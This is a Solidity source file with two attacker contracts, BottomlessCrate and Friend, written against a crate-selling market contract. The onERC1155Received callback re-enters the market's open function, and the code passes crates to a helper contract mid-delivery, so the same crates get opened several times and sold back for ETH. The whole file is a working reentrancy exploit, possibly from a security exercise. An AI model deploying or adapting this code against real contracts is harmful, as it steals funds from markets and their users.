// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IMarket {
    function buyCrates(uint128 count) external payable;

    function open(uint128 count, address to) external returns (uint256);

    function giveCrates(address to, uint128 count) external;

    function sellBack(uint256 id, uint256 value) external;
}

/// Opens its crates again while the market delivers what was in them.
contract BottomlessCrate {
    IMarket private immutable market;
    uint256 private left;
    uint128 private count;
    address private friend;

    constructor(IMarket market_) {
        market = market_;
    }

    function run(uint128 count_, uint256 rounds) external payable {
        left = rounds;
        count = count_;
        market.buyCrates{value: msg.value}(count_);
        market.open(count_, address(this));
        payable(msg.sender).transfer(address(this).balance);
    }

    /// Gives the crates away while they are delivered; the friend opens them too.
    function runWithFriend(uint128 count_) external payable {
        count = count_;
        friend = address(new Friend(market));
        market.buyCrates{value: msg.value}(count_);
        market.open(count_, address(this));
        Friend(payable(friend)).cash(count_);
        payable(msg.sender).transfer(address(this).balance);
    }

    function onERC1155Received(address, address, uint256 id, uint256 value, bytes calldata) external returns (bytes4) {
        if (left > 0) {
            left--;
            market.open(count, address(this));
        } else if (friend != address(0)) {
            market.giveCrates(friend, count);
        }
        market.sellBack(id, value);
        return this.onERC1155Received.selector;
    }

    receive() external payable {}
}

contract Friend {
    IMarket private immutable market;

    constructor(IMarket market_) {
        market = market_;
    }

    function cash(uint128 count) external {
        market.open(count, address(this));
        (bool ok, ) = msg.sender.call{value: address(this).balance}("");
        require(ok);
    }

    function onERC1155Received(address, address, uint256 id, uint256 value, bytes calldata) external returns (bytes4) {
        market.sellBack(id, value);
        return this.onERC1155Received.selector;
    }

    receive() external payable {}
}
